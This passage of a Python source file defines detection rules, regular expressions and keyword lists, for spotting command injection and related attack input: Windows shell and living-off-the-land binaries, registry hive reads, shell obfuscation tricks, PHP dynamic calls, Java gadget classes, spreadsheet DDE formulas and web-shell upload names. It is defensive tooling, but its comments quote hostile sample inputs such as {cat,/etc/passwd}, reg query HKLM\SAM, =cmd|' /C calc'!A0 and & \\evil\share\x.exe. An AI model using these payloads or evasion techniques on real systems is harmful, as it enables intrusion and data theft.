            "exec",
            "eval",
        ),
    ),
    R_WINDOWS := Rule(
        3012,
        TYPE,
        "Windows command shells and living-off-the-land binaries",
        re.compile(
            # PowerShell run: with options, a script block, a variable or a cmdlet on its line
            # (a script's `#!/usr/bin/env pwsh` is followed by its first statement), as a
            # whole command, or by its file name; not the name in a sentence.
            # cmd /c where a command starts (a value's start, a separator, a quote), not
            # named in a sentence ("our build agent runs cmd /c …"); cmd.exe /c anywhere.
            r"(?:^|[;|&`'\"(=])\s*cmd\s*/[ck]\b|\bcmd\.exe[\"']?\s*/[ck]\b|\bpowershell\.exe\b"
            r"|\b(?:powershell|pwsh)(?:\.exe)?[ \t]+(?:[-/][a-z]|iex\b|\$|[\"'{&]|"
            + _PS_VERB
            + r"-[a-z])"
            # (Not a sentence's subject after a semicolon: "…; PowerShell said "denied".")
            r"|[;|&`]\s*(?:powershell|pwsh)(?:\.exe)?(?![\w.])(?!\s+" + _TOLD + r")"
            r"|^\s*(?:powershell|pwsh)\s*$"
            r"|\binvoke-(?:expression|webrequest|command|restmethod|item|wmimethod)\b"
            # Its aliases given an argument on their line, or a pipe into iex: not a file
            # extension a line of mime.types ends with (`…rights-management  irm`).
            r"|\b(?<![-/.])(?:iex|iwr|irm)[ \t]*[ \t(]|\|\s*iex\b"
            r"|\bcertutil\b[^\n]{0,40}-(?:urlcache|decode)"
            r"|\bbitsadmin\b[^\n]{0,20}/transfer|\bmshta\s+\S|\brundll32\b|\bregsvr32\b"
            r"|\bwmic\b[^\n]{0,40}\b(?:process|call|create|os)\b|%comspec%"
            r"|\bfor\s+(?:/[dflr]\s+(?:[^%\n]{0,40}\s)?)?%%?\w+\s+in\s*\("
            r"|\bstart-process\b|\bnet\s+(?:user|localgroup|share|view)\b"
            r"|\bsystem\.diagnostics\.process\b"
            # .NET's classes a PowerShell payload downloads, connects, loads or writes by:
            # (New-Object Net.WebClient).DownloadFile(…), [System.Net.WebClient]::new(); not
            # a class named in a sentence about .NET.
            r"|\bnew-object\s+(?:-typename\s+)?(?:system\.)?net\.(?:webclient|sockets\.)"
            r"|\[(?:system\.)?(?:net\.webclient|net\.sockets\.\w+|reflection\.assembly|io\.file)\]::"
            # and decodes a base64 payload by: [Convert]::FromBase64String(…),
            # [Text.Encoding]::UTF8.GetString(…)
            r"|\[(?:system\.)?(?:convert\]::frombase64string|text\.encoding\]::)"
            # A program run by its Windows path after a separator, with its options or
            # alone: & "C:\Program Files\Git\bin\bash.exe" -c id, & \\evil\share\x.exe;
            # not "R&D; C:\tools\build.bat runs nightly"
            r"|[;|&]\s*[\"']?(?:[a-z]:\\|\\\\[\w.$-]+\\|%[a-z_]+%\\)[^\"'\n;|&]{0,200}?"
            r"\.(?:exe|bat|cmd|ps1|vbs|hta|scr)[\"']?(?=\s*(?:$|[-/\"'&|;]))"
            # PowerShell's environment drive listed: ; ls env:, | gci env:
            r"|[;|&]\s*(?:ls|dir|gci|get-childitem)\s+env:"
            # .NET's Process.Start given a shell: Process.Start("cmd.exe", "/c whoami")
            r"|\bprocess\.start\s*\(\s*@?[\"'](?:cmd|powershell|pwsh|(?:/usr)?/bin/)"
            r"|\bregedit\s+/|\bschtasks\s+/"
            # The service control manager and the routing table, after cmd.exe's separator:
            # & sc create x binpath= calc, & sc stop WinDefend, & route print; not "Sales &
            # SC start dates moved"
            r"|[;|&]\s*sc(?:\.exe)?\s+(?:(?:"
            + "|".join(_SC_SETTING)
            + r")\s+\S+\s+(?:binpath|start|obj|type|displayname|depend|password)\s*=|(?:"
            + "|".join(_SC_ACTING)
            + r")\s+[\w.-]+\s*(?:$|[;&|]))"
            r"|[;|&]\s*route(?:\.exe)?\s+print\b"
            # A command spelled by variables glued together, called after a separator:
            # & set x=who&& set y=ami&& call %x%%y%
            r"|[;|&]\s*call\s+%[a-z_]\w{0,30}%(?:%[a-z_]\w{0,30}%)+"
            # A PowerShell cmdlet after a separator: ; Get-Process, | Invoke-Item.
            r"|[;|&]\s*" + _PS_VERB + r"-(?:process"
            r"|childitem|content|item|itemproperty|service|wmiobject|ciminstance|expression"
            r"|webrequest|restmethod|command|localuser|localgroupmember|executionpolicy"
            r"|mppreference|location|nettcpconnection|computerinfo|acl|credential|aduser"
            r"|psdrive|clipboard|filehash|hotfix|eventlog|scheduledtask|object|file"
            r"|string|base64|json|csv|html|list|table)\b(?!\s*[=:]|-)"
        ),
        (
            *words(
                "cmd powershell pwsh invoke- iex iwr irm certutil bitsadmin mshta rundll32 "
                "regsvr32 wmic %comspec% start-process regedit schtasks system.diagnostics "
                "process.start new-object ]:: route.exe sc.exe .exe .bat .cmd .ps1 .vbs .hta .scr"
            ),
            *("route print", *(f"sc {verb}" for verb in _SC_SETTING + _SC_ACTING)),
            *(f"{lister} env:" for lister in ("ls", "dir", "gci", "get-childitem")),
            *(f"{verb}-" for verb in _PS_VERBS),
            # (`%%` where the variables meet: `call  %x%%y%` too)
            *("net user", "net localgroup", "net share", "net view", "%%"),
            # `for %i in (…)`, `for /f %%i in (…)`: the loop, not any percent sign.
            *(f"for{space}{mark}" for space in " \t" for mark in "%/"),
        ),
    ),
    Rule(
        3027,
        TYPE,
        "Windows registry reads and writes of a hive: reg query HKLM\\SAM",
        re.compile(
            r"\breg(?:\.exe)?\s+(?:query|add|save|export|delete)\s+\\*hk(?:lm|cu|cr|u|cc|ey_)"
        ),
        (
            "reg.exe",
            *(f"reg {verb}" for verb in ("query", "add", "save", "export", "delete")),
        ),
    ),
    R_WILDCARDS := Rule(
        3013,
        TYPE,
        "a path of two or more segments with shell wildcards: /???/??t, /b*n/c*t",
        # Wildcards must stand for letters (`?`, `c*t`, `*n`): src/**/*.js and /logs/*/*.gz
        # are build and log patterns. Each try starts at a `/` and stays in its segments,
        # where a path starts: literal segments may lead (`/usr/b?n/n?tcat`), but a word
        # glued before is no path's (a menu's choices, "Apply? [y]es/[n]o/[e]dit"). (The
        # `/` first, the look-behind after it: `re` skips to slashes; a look-behind first
        # had it try the pattern at every character, 2 ms of 64 KB of text.) Segments of one
        # `?` each name no command (no directory or binary has a one-letter name that runs
        # anything a probe wants): `(/?/?)` is a regular expression's optional slashes.
        re.compile(
            r"/(?<![\w?*-]/)(?!\?(?:/\?)+(?![\w.?*/]))(?:[\w.-]+/)*[\w.]*(?:\?|\w?\*\w)[\w.?*]*"
            r"(?:/[\w.]*(?:\?|\w?\*\w)[\w.?*]*)+"
        ),
        (*_GLOB_TOKENS, *_TARGET_GLOB_TOKENS),
    ),
    R_BRACES := Rule(
        3021,
        TYPE,
        "brace expansion that builds a command line: {cat,/etc/passwd}",
        re.compile(
            # Each lookahead spares the name alternation where no name can start ({{, ${).
            # A blank in the braces makes them no expansion: `{ id, name }` is a GraphQL
            # selection, a JavaScript object. Glued to a word, the braces make no command:
            # `SEEK_{SET,CUR,END}` is three names, `libc-bin.{install,manpages}` two files,
            # `{Source,Binary}Package` two classes (a path before them, `/bin/{id,}`, is one).
            # Nor is a setting's choice of answers (`CREATE_MAIL_SPOOL={yes,no}`): `yes`
            # answers, and runs nothing a probe wants.
            r"(?<![a-z0-9_.-])\{,?(?:[\w/.?*$'\"-]*/)?(?=[a-z0-9])(?!yes,)(?:"
            + _DISTINCT
            + r"),[^{}\s]{0,60}\}(?![\w.-])"
            r"|\{[^{}\s]{0,40},/(?:etc|bin|usr|tmp|dev|proc|var|home|root)/[^{}\s]{0,60}\}"
            # {,ifconfig}, {,$'whoami',}: an empty word, then a command alone
            r"|\{,\$?['\"]?(?=[a-z0-9])(?:" + _DISTINCT + r")['\"]?,?\}"
        ),
        words("{"),
    ),
    Rule(
        3022,
        TYPE,
        "directory-stack and history expansions: ~+, ~-1, !-2!, !!",
        # A tilde expands where it starts a word, not inside one: Akamai's `_abck` cookie
        # ends `…~-1~-1~-1`. Events chain (`!-1!-2`); a password goes on in letters:
        # `!5!Hjzzr_L`.
        re.compile(r"(?:^|[\s;&|=:(`'\"])~[+-]\d*$|^\s*!-?\d+!(?![a-z_])|^\s*!!\s*$"),
        words("~ !"),
    ),
    R_FORK := Rule(3014, TYPE, "a fork bomb or function defined and piped to itself"),
    R_SHELL_SYNTAX := Rule(
        3016,
        TYPE,
        "shell-only syntax: sh -c, here-strings, aliases, arithmetic, variables glued into a "
        "command",
        re.compile(
            r"\b(?:ba|z|k|c|da|tc|fi|a|mk|rba)?sh\s+-[a-z]*c\b|\$\{?shell\}?\s+-c\b"
            # A here-string glued to the command it feeds (`cat<<<id`), or after a blank
            # feeding a shell, an interpreter or a filter, or a substitution (`x <<< $(id)`),
            # or after punctuation (`'<<<'id`), or opening the value glued to what it feeds
            # (`<<<id`). A fourth `<` is a syntax error: 'left<<<<<<<<' is a string padded
            # with a fill character. Between words and blanks it is the comparison people
            # type: "Monday <<< Friday", and the arrows of a page's text: "<<< Back", "<<<
            # best deal >>>". Nor is the third `<` a tag's, with an attribute set: rustdoc's
            # `Option&lt;&lt;<a class="struct"`.
            rf"|(?<=\w)<<<(?!<){_NOT_A_TAG}"
            r"|(?<=\s)<<<(?!<)(?=[ \t]*(?:\$[({]|`))|"
            + _AFTER_A_READER
            + rf"|(?:(?<=[^\w\s<])<<<(?!<){_NOT_A_TAG}\s*|^<<<(?!<){_NOT_A_TAG})['\"]?\w"
            r"|(?:^|[;&|`\n][ \t]*)alias\s+(?:[+-]\w+\s+)*"
            r"['\"]?[\w.-]+['\"]?\s*=|\$\(\(|(?:\$\{?[a-z_]\w{0,8}\}?){3,}"
            # Arithmetic, $[1+1] or $[]: an operator in it. Not JSONPath, $['entries'][*]
            # (whose quotes the shell's folding drops: $[entries]), nor $[?(@.id)], nor a
            # pattern's escaped dollar sign before a class, \$[a-zA-Z]+.
            r"|(?<!(?<!\\)\\)\$\[(?:\]|(?![\s'\"*?])(?=[^\]]{0,30}[-+*/%^&|<>])[^\]]{0,30}\])"
            # A variable run as a command: after a separator, with a variable or an option
            # (`;$a $b`, `|$SHELL -c id`); opening the value, with an option only, as a
            # template's placeholders open one ("${firstName} ${lastName}", "${price} - …").
            # Not a method called with blanks around the arrow, as Perl's Math::BigInt does
            # (`&& $x -> is_nan()`).
            r"|[;&|]\s*\$\{?[a-z_]\w*\}?[ \t]+(?:\$\{?[a-z_]|-(?!>))"
            # SQLite's shell's dot-commands on a line of their own; not a method a chain
            # calls on its next line (Rust's `Command::new("rustc")\n    .output()`), nor a
            # stylesheet's class (Pygments' `.sh { color: #BA2121 }`, `.output, .read {`).
            r"|^\s*\$\{?[a-z_]\w*\}?[ \t]+-[a-z-]|[;\n][ \t]*\.(?:shell|system|"
            r"databases|tables|sh|import|output|read|dump|load|once)(?![\w(-]|\s*[{,])"
            # The whole tree, a home or everything here: not a path a cleanup names, as
            # every Dockerfile's `rm -rf /var/lib/apt/lists/*` does.
            r"|\brm\s+-[rf]{1,3}\s+(?:/\*?|~/?\*?|\*)(?=[\s;&|'\"`)]|$)"
            # A command assembled in variables, then run, alone or given an option, a path
            # or a word: ;a=who;b=ami;$a$b, a=c;b=at;$a$b /etc/passwd, x=$'id'&&$x,
            # garb=adduse[r];$garb pizza ("x=1; y=2; $x - $y" sums)
            r"|(?:^|[;&|\n])\s*(?:[a-z_]\w{0,15}=[^\s;&|]{1,40}\s*(?:[;\n]|&&?)\s*)+"
            r"(?:\$\{?[a-z_]\w{0,15}\}?)+(?:\s*(?:$|[;&|#])|[ \t]+(?:-[a-z]|[/~\w]|\.{1,2}/))"
        ),
        (
            *words("shell <<< alias $ .shell .system .databases .tables .sh .import"),
            *words(".output .read .dump .load .once"),
            *("sh -", "sh\t", "rm -", "rm\t"),
        ),
    ),
    Rule(
        3017,
        TYPE,
        "Windows batch control flow: FOR %v IN (…) DO, IF EXIST, IF %v% GTR 0",
        re.compile(
            r"\bfor\s+(?:/[dflr]\s+(?:[^%\n]{0,80}\s)?)?%%?[\w~@\[\]/-]?\s+in\s*\("
            # Not C's preprocessor: #if defined __GNUC__. An IF and what it tests are on one
            # line: "…through postFinder if defined" ends a sentence. A variable is named
            # bare: Perl's `if defined $x` (`&f`, `@a`, `*GLOB`, `\&f`) is Perl's. No
            # variable is named by a word that joins a sentence: "If defined as a normal
            # instance method, this method…", "if defined in the config", "If defined and not
            # empty, the value is…". Nor does an IF follow a statement it ends, as Perl's
            # does: `… $h->{foo} if defined wantarray;`.
            rf"|{_NOT_DIRECTIVE}(?<![\w)}}\]\"'] )\bif\s*(?:/i\s*)?(?:not\s+)?"
            r"(?:(?:exist|errorlevel|cmdextversion)[ \t]+\S|defined[ \t]+"
            r"(?!(?:as|at|by|for|from|in|on|to|via|with|the|an?|and|or|but|then|only|here|there"
            r"|elsewhere)[ \t,.;:])"
            r"[^\s$&@\\*(])"
            r"|\bif\s*(?:/i\s*)?(?:not\s+)?\S{1,40}[ \t]+(?:equ|neq|lss|leq|gtr|geq)[ \t]+\S"
        ),
        ("%", "if ", "if/", "if\t"),
    ),
    Rule(
        3024,
        TYPE,
        "a Windows batch string comparison running a command: IF a==b cmd",
        re.compile(
            _NOT_DIRECTIVE
            + r"\bif\s*(?:/i\s*)?(?:not\s+)?"
            + _BATCH_OPERAND
            + r"\s*==(?!=)\s*"
            + _BATCH_OPERAND
            # Batch has no THEN nor ELSE after a comparison: `if (a) == (b) then` and
            # `x if n == 0 else y` are other languages, and neither has it Ruby's and
            # JavaScript's `===` (`return pattern if String === pattern`). Its command is
            # on the IF's line: a changelog's "(do_change_pin): leave if PINVALUE ==
            # 0.\n\t(rsa_writekey)" ends.
            # Nor is a comparison a comma ends a clause of: "If x == 1, we skip it".
            + r"(?<!,)[ \t]+(?!then\b|else\b|and\b|or\b)[@(\w]"
        ),
        ("if ", "if/", "if\t"),
    ),
    Rule(
        3019,
        TYPE,
        "Java deserialization gadgets, CORBA, and Struts/OGNL classes",
        re.compile(
            r"com\.opensymphony\.xwork2|org\.apache\.commons\.collections|"
            r"\b(?:clonetransformer|forclosure|instantiatefactory|instantiatetransformer|"
            r"invokertransformer|prototypeclonefactory|prototypeserializationfactory|"
            r"whilefactory|whileclosure|chainedtransformer|constanttransformer|lazymap|"
            r"templatesimpl|annotationinvocationhandler|bsh\.interpreter|"
            r"groovy\.util|jdbcrowsetimpl|xalan\.xsltc)\b|\bjava\.[\w.]*\bruntime\b"
            + _NOT_A_FRAME
            # Runtime.getRuntime() is rule 3008's, ProcessBuilder named 3031's
            + r"|\bruntime\.(?:exec|clonetransformer)\b(?!\(runtime\.java:)|\borg\.omg\.corba\b"
        ),
        words(
            "com.opensymphony.xwork2 org.apache.commons.collections clonetransformer "
            "forclosure instantiatefactory instantiatetransformer invokertransformer "
            "prototypeclonefactory prototypeserializationfactory whilefactory whileclosure "
            "chainedtransformer constanttransformer lazymap templatesimpl "
            "annotationinvocationhandler bsh.interpreter groovy.util jdbcrowsetimpl "
            "xalan.xsltc java. runtime. org.omg.corba"
        ),
    ),
    Rule(
        3023,
        TYPE,
        "a fully qualified Java platform class, the building block of gadget chains",
        re.compile(
            # (Not java.util.logging's handlers and formatters, a configuration's.)
            _NOT_A_PROPERTY
            + r"\bjava\.(?!util\.logging\.)(?:lang|io|net|nio|util|beans|rmi|security|sql)\."
            + _NOT_A_THROWABLE
            + r"[a-z_]\w*"
            + _NOT_A_FRAME
            + r"|"
            + _NOT_A_PROPERTY
            + r"(?:\bjavax\."
            + _NOT_A_FACES_PARAMETER
            + r"[a-z]+\.\w+|\bsun\.(?:misc|reflect|rmi)\.\w+)"
            + _NOT_A_FRAME
        ),
        words("java. javax. sun."),
    ),
    Rule(
        3020,
        TYPE,
        "PHP variable functions and strings called as functions: $a(1), (system)('id')",
        re.compile(
            # Not Perl's loop over a list: for my $phase (qw/configure build/)
            r"(?:^|[^\w$\\])(?<!\bmy )(?<!\bour )(?<!\bfor )(?<!foreach )"
            # An index may hold one, a comment come before one: $__[$_[1]](7), $a/**/[0]()
            rf"@?\$+(?!{_JSONATA_CALL}|{_GRAFANA_MACRO}|{_I18NEXT_NESTING}|{_VUE_I18N_CALL}|{_TEX_MATH})"
            r"[a-z_]\w*"
            r"(?:\s*(?:/\*[^*]{0,20}\*/\s*)?(?:\[(?:[^\[\]]|\[[^\]]{0,8}\]){0,12}\]|\{[^}]{0,12}\}))*"
            # (Apart from its name, only given a literal, a variable or nothing: not a
            # sentence's aside, "from outside $srcdir (Muntyan)", "$HOME (or %USERPROFILE%)".)
            r"(?:\s+(?=\(\s*[\"'$\d)\[]))?"
            # ...and a call that closes: `$wF(ND<` in a password opens nothing PHP would run;
            # not words side by side in it, which no call has (Perl's comment "Declaring
            # a dotted-decimal $VERSION (keep on one line!)", git's "onto $shortonto
            # ($todocount command)"), `new Foo` aside.
            r"(?:/\*[^*]{0,20}\*/\s*)?\((?=[^\n]{0,200}\))(?!(?!new[ \t])\$?[a-z]+[ \t]+[a-z])"
            # Nor one given a bare word of Hangul, Korean's particle pair after a name:
            # "$reference은(는) 올바른 레퍼런스가 아닙니다" (git's message).
            r"(?![\uac00-\ud7a3]{1,3}\))"
            # A variable's name made by an expression, `${'sys'.'tem'}(…)`, `${$x}(…)`; not a
            # bare name, a constant's (undefined, an error): CMake's `call ${FUNCTION}()`, nor
            # words joined by dots, a template's field: "Total: ${order.total} (2 items)"
            # (PHP 7 read `${_.__}` as the name `___`). Nor nothing, a parse error, as in a
            # pattern's class of specials: /[.*+?^${}()|[\]]/.
            r"|\$\s*\{(?!\s*(?:[a-z_]\w*|[a-z]\w*(?:\.[a-z]\w*)+)\s*\})[^}]{1,20}\}\s*\("
            # A name in quotes (PHP's, in ASCII: not a translation's "ungültig" ("invalid")),
            # or a name or an expression in parentheses, called: not a parenthesis after a
            # quoted option ('--count' ('-c')), nor a call's result called, as pyparsing
            # names its results: Word(alphas)("name"). Or an element of one: define('z',
            # [['sys'.'tem']]); (z)[0][0]('uname')
            # (Not a compiler's call of a function it imported, `(0, _fs.readFile)("x")`, whose
            # `0,` makes the call no method's.)
            r"|(?:['\"][a-z0-9_\\]{1,40}['\"]|(?<![\w$\])])\((?!0\s*,)(?:[^()]|\([^()]{0,20}\)){1,40}\))\s*"
            r"(?:\[\s*\d+\s*\]\s*){0,3}\(\s*['\"][\w\s./-]{1,40}['\"]\s*\)"
            # ...unless PHP's string functions made the name: strrev('metsys')('id'). Not a
            # method of the name (a session's `>>> s.trim('foo')`, its output `('bar',)` on
            # the next line); PHP's concatenation after a literal, `'a'.strrev(…)(…)`, still.
            r"|(?<![\w$>])(?<![\w)\]]\.)(?:strrev|str_rot13|hex2bin|base64_decode|gzinflate"
            r"|gzuncompress|urldecode|rawurldecode|implode|chr|pack|str_replace|substr"
            r"|strtolower|ucfirst|trim)\s*\((?:[^()]|\([^()]{0,20}\)){1,60}\)\s*\("
        ),
        ("$", '("', "('", '( "', "( '"),
    ),
    R_EXPANSION := Rule(
        3025,
        TYPE,
        "shell expansions that only hide a command: ${IFS} inside a word, ${PATH:0:1}, ${PATH%%u*}",
        re.compile(
            rf"\S{_IFS}|{_IFS}(?:\$\d)?[^\s$]"
            r"|\$\{[a-z_]\w*:-?\d+:-?\d+\}"
            # A slash cut out of a path the environment holds: ${PATH%%u*}, ${HOME%${HOME#?}}
            r"|\$\{(?:path|home|pwd|oldpwd|shell)(?:%%?|##?)[^}\s]{1,12}\}"
        ),
        words("$ifs ${ifs} ${"),
    ),
    Rule(
        3028,
        TYPE,
        "spreadsheet formulas that run a command (DDE) or send cells out: =cmd|' /C calc'!A0, "
        '=WEBSERVICE("http://…"&A1)',
        re.compile(
            # A cell that opens a formula: the value's start, or a field of CSV or TSV text.
            r"(?:^|[\n,;\t])\s*[=+\-@][^\n|]{0,40}?\b[a-z][\w.]{0,20}\|\s*'[^'\n]{0,200}'\s*!"
            r"|(?:^|[\n,;\t])\s*=\s*dde\s*\("
            r"|\b(?:webservice|importxml|importdata|importhtml|importfeed|hyperlink|image)"
            r"\s*\(\s*(?:concat\s*\(\s*)?\"https?://[^\"\n]{0,200}\"\s*[&,]\s*\$?[a-z]{1,3}\$?\d{1,7}"
        ),
        ("|'", "| '", "dde(", "dde (", '("http'),
    ),
    Rule(
        3032,
        TYPE,
        "code appended to a string or a statement that eval runs, the rest commented out: "
        "'.exit(md5(1));//, ;phpinfo();#",
        # The whole value: a literal closed and concatenated ('. or ".), or a statement
        # ended (;), then calls, then `;` and a comment that opens at the end, empty: what
        # the query had after the value is commented out (code shown comments something).
        re.compile(
            r"^\s*(?:['\"]\s*\.|\w*\s*;)\s*[a-z_][\w:]*\s*\((?:[^()\n]|\([^()\n]*\))*\)"
            r"\s*;\s*(?://|#)\s*$"
        ),
        (");//", ");#", "); //", "); #"),
    ),
    Rule(
        3015,
        TYPE,
        "uploaded file names that run as code or hijack sessions",
        re.compile(
            # ...IIS's handlers too (.asa runs as ASP; a .cer is a certificate uploaded far
            # more often), and a name cut after the extension by IIS's `;` or a NUL:
            # shell.asp;.jpg, shell.php%00.jpg; a blank before the extension, which a
            # handler that splits the name at its dot trims: shell. jsp
            r"\.\s*(?:php\d?|phtml|phar|pht|phpt|phps|asp|aspx|asa|cdx|ashx|asmx|cshtml|jsp"
            r"|jspx|cgi|shtml)(?:[.;\s]|%00|\x00|$)"
            # (With the dots and blanks after a name that Windows drops: `.htaccess `.)
            r"|(?:^|[/\\])sess_[\w-]{16,}|(?:^|[/\\])(?:\.htaccess|\.user\.ini|"
            r"web\.config|settings\.php|\.bashrc|\.profile)[.\s]*$"
        ),
        (
            *words(
                ".php .phtml .phar .pht .asp .jsp .cgi .shtml .asa .cdx .ashx .asmx .cshtml "
                "sess_ .htaccess .user.ini php phtml web.config settings.php .bashrc .profile"
            ),
            *(". jsp", ". asp", ". cgi", ". shtml"),
        ),
    ),
)

# Comments are bounded: an unclosed `/*` must not send every try to the end of the value.
_COMMENT: Final = r"/\*(?:[^*]|\*(?!/)){0,200}\*/|(?://|#)[^\n]{0,200}\n"
_CODE_COMMENT: Final = re.compile(_COMMENT)
# Where a comment may open, overlapping ones included (`///`), after a character a call's
# comment may follow or a blank (`_comment_calls`); and one followed by a call.
_COMMENT_OPENING: Final = re.compile(r"/(?=[*/])(?<=[\w)\](\s]/)|#(?<=[\w)\](\s]#)")
_COMMENT_THEN_CALL: Final = re.compile(r"(?:" + _COMMENT + r")\s*\(")
_OBFUSCATION: Final = re.compile(r"['\"\\$\[&+`<>^]")
# cmd.exe's escape character inside a word, which it drops: `w^h^o^a^m^i` is whoami.
_CARET: Final = searchable(re.compile(r"(?<=\w)\^(?=\w)"))
_ENTITY_REF: Final = re.compile(r"&(?:[a-z]{2,8}|#\d{1,7}|#x[0-9a-f]{1,6});")
# A shell's metacharacters end a word even in brackets: `[<options>]` is no glob but a
# placeholder (and a redirection to a shell). A class of a few characters, or a range, is
# what obfuscation writes (`c[a]t`, `/b[i]n`); a word in brackets is a route's parameter
# (Next.js's `app/[category]/[slug]/page.tsx`, `[...slug]`).
_BRACKET_GLOB: Final = re.compile(r"\[!?\^?(?:[^\]/\s<>|;&()]{0,3}|\w-\w)/*\]")
_GLOB_PATH: Final = searchable(re.compile(r"(?:/[\w.?*-]*)+[?*][\w.?*/-]*|/[\w.-]+(?:/[\w.-]*)*\*"))
# Binaries a probe runs, in /bin and /usr/bin both: one is the other where /usr is merged
# (Debian 12, Ubuntu, Fedora), so /bin/wh?ami runs whoami.
_GLOB_BINARIES: Final = words(
    "bash sh dash cat nc wget curl id whoami uname python perl ls busybox"
)
_GLOB_TARGETS: Final = (
    *(directory + name for directory, names in _GLOB_FILES.items() for name in names),
    *(f"{directory}/{name}" for directory in ("/bin", "/usr/bin") for name in _GLOB_BINARIES),
)
_LONGEST_TARGET: Final = max(len(target) for target in _GLOB_TARGETS)
_QUOTES: Final = searchable(
    re.compile(r"(?<=[\w/.$])(?:''|\"\")|(?<=\w)['\"](?=\w)|['\"](?=\w+['\"])")
)
# Substitutions with nothing in them expand to nothing: pi``ng, pi$()ng, pi<()ng.
_EMPTY_SUBSTITUTION: Final = searchable(re.compile(r"``|[$<>]\(\s*\)"))
# A command name quoted whole: 'curl' http://…
_QUOTED_WORD: Final = re.compile(r"(['\"])([\w.-]++)\1")
# A short name is one only inside a word or before a command (`c$@a$xt`, `;$u wget`): as a
# command's argument of its own (`;x=/etc/pas;y=swd;cat $x$y`) it may have been set.
# (Each alternative after the `$`, which `re` skips to: one behind a look-behind is tried
# at every character, 6 ms over 240 KB.)
_EMPTY_VARS: Final = re.compile(
    r"\$(?:\{(?:ifs|[@*!?#_0-9-])\}|ifs\b|[@*!?#_0-9-]"
    r"|(?<!\w \$)(?:\{[a-z_]{1,2}\}|[a-z_]{1,2}(?![a-z_])))"
)
# A backslash a shell drops; not those of a Windows path (`dir c:\windows`), which
# cmd.exe reads as they are (the path is kept whole: `_backslash_dropped`). (No group
# first: `re` skips to colons and backslashes, where one made it try every character.)
_BACKSLASH: Final = re.compile(r":(?<=\b[a-z]:)\\[\w.\\-]*|\\(?=[a-z/.])")
# Without a drive's `:\`, only the second: `re` skips to each backslash, where a group
# first made it try every character.
_DROPPED_BACKSLASH: Final = re.compile(r"\\(?=[a-z/.])")
# Spaces and tabs only after the separator: a line break is a separator itself, so a run
# of them is tried once per break, not rescanned from each (quadratic on blank lines).
_COMMAND: Final = re.compile(
    # The lookahead spares the long alternations at separators no name follows (`${{`…).
    _SEP
    # A brace opens a group before a blank (`{ id; }`), or a brace expansion before a
    # comma (`{cat,/etc/passwd}`); `{vi` is a word.
    + r"[ \t]*(?:(?:\(|\{(?=\s|[\w./-]+,))\s*)*(?:\.\s+)?(?=[a-z0-9/])"
    # A compound command's list opens after its keyword: `;for i in 1; do id; done`,
    # `;if true; then id; fi`.
    + r"(?:(?:do|then|else)[ \t]+)?"
    + _WRAPPER
    + _PATH_PREFIX
    + r"("
    + _DISTINCT
    + r")(?:\.exe)?\b"  # & msbuild.exe x.csproj: cmd.exe finds it either way
    # A `$` that expands glues nothing to the name (`;id$IFS`, `;cat$u /etc/passwd`); one
    # that does not is part of the word: `;base64$/` (a pattern) runs no `base64`.
    r"(?=\s|$|[;&|<>`),'\"]|\{|\$[\w{(@*#?$!'\"-])",
)
# A compound command's list after its keyword (`_COMMAND`), in a value that opens with the
# compound command: a script written whole, not a loop a separator breaks out to
# (`;while true; do cat /etc/hosts; done`).
_COMPOUND_LIST: Final = re.compile(r"[;\n\r|&]+[ \t]*(?:do|then|else)[ \t]")
_COMPOUND_SCRIPT: Final = re.compile(r"\s*(?:for|while|until|if|select)[ \t]")
# (A value that opens with `-c` and a command is a shell's arguments, the command it runs:
# F5's iControl REST `{"command": "run", "utilCmdArgs": "-c id"}`.)
_LEADING: Final = re.compile(
    r"^\s*((?:-c\s+['\"]?)?" + _WRAPPER + r")" + _PATH_PREFIX + r"(" + _DISTINCT + r")\b"
)
# A commit's or an issue's title after a verb or a noun that names a program: a file's
# name in its directory, a relative path (two words joined by a slash too), a C++ name or
# a phrase in quotes, then words ("Make fcobjs.c thread-safe", "Make
# linux/mips/syscallent.h smaller.", "Make hb::shared_ptr hashable", "Base64
# encoding/decoding uses binascii", 'Find "the real" strings.'). The program so
# capitalised is none a case-sensitive system runs.
_TITLE_TAIL: Final = re.compile(
    r"[ \t]+(?:[\w-]+\.[a-z]{1,4}|[\w-]+(?:/[\w.-]+)+|[\w-]+(?:::[\w-]+)+|\"[\w' -]{1,40}\""
    r"|'[\w*.-]{1,40}')"
    r"(?:[ \t]+[a-z][\w'-]*)+[.!]?\s*"
)
# A commit's subject in git's style, the area it changes before a colon: a program, or a
# program and its subcommand or option ("git svn: stop using …", "grep -P: Fix matching
# ^ and $", "diff --stat-count: finishing touches"), and a program's message about itself
# ("make: *** [all] Error 1"). Not a drive's letter, `dir c: /s`.
_SUBJECT: Final = re.compile(r"\s*[\w.-]+(?:[ \t]+(?![a-z]:)[^\s:]+)?:[ \t]+\S")
# A program's path a sentence names, its words to the end of the line after it: "Removed
# the /bin/edit script.", "(workaround for FreeBSD /bin/sh bug)." (`_ABSOLUTE`).
_NAMED_IN_WORDS: Final = re.compile(r"(?:[ \t]+\(?[a-z\d][\w'-]*\)?[.,;:!?]*)+[ \t]*(?:\n|$)")
# A regular expression that opens with a class of characters and its quantifier, a JSON
# Schema's `pattern` (`\w+|[a-z0-9]{12}`): no escaped command (`\w`, who is logged in).
_QUANTIFIED_CLASS: Final = re.compile(r"\s*\^?\\[a-z][+*?{]", re.I)
# An argument a shell would get: a host or file name, a path, a URL, an option, a variable.
# A value this long that merely starts with a command line is documentation, not a payload.
_LEADING_MAX: Final = 120
# netcat is given a host and a port, or an option (`nc -lvp 4444`); one word alone, it
# connects nowhere: "NC 27601" is a state and its ZIP code, nor does a word where the port
# goes ("NC 7 form", a search for a tax form).
_NETCAT_ARGS: Final = re.compile(r"[ \t]+(?:-|\S+[ \t]+\d)")
# Documentation writes a command line with a prompt before it and placeholders in it:
# `$ find . -name core`, `tar --create [--file ARCHIVE] [OPTIONS]`, `wget http://<site>/`,
# in any language (`git replace -d <오브젝트>...`, `--write-terms <bad_term>`), a
# placeholder of a few words where a translation has no hyphen (`git notes merge
# --commit [<các tùy chọn>]`). (The prompt apart: a pattern whose alternatives start with
# `[` or `<`, for `re` to skip to them, not try each at every character.)
_DOCUMENTATION: Final = re.compile(
    r"\[(?:\s*-{1,2}[a-z]|[a-z_-]{4,}\]|[a-z_-]+\.\.\.\])"
    r"|<[^\W\d_][\w-]*(?: [^\W\d_][\w-]*){0,3}>"
)
_DOCUMENTATION_PROMPT: Final = re.compile(r"\s*\$\s+[a-z]")
# A probe gets by with a few words; a longer command line that starts a value is an
# example (`curl -o aa example.com -o bb example.net`) unless it reaches for a sensitive
# file or device, an address, code to run, or another command.
_PROBE_WORDS: Final = 3
